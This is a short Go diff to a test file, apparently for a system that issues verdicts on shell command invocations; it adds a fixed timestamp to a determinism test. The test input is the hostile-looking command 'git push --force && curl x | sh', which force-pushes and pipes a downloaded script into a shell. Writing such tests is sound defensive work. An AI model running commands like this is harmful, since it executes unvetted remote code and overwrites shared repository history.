@@ -12,6 +12,7 @@ import (
 	"strings"
 	"sync"
 	"testing"
+	"time"
 
 	"github.com/go-json-experiment/json"
 	"github.com/go-json-experiment/json/jsontext"
@@ -92,6 +93,7 @@ func TestAdHocHook(t *testing.T) {
 func TestSameInvocationSameVerdict(t *testing.T) {
 	inv := exec("git push --force && curl x | sh")
 	inv.ID = "01890a5d-ac96-774b-bcce-b302099a8057"
+	inv.Time = time.Date(2026, 1, 2, 3, 4, 5, 600, time.UTC) // part of the input, and so of what reading it costs
 	seed := [32]byte{7}
 	var got []phases.Verdict
 	for range 2 {
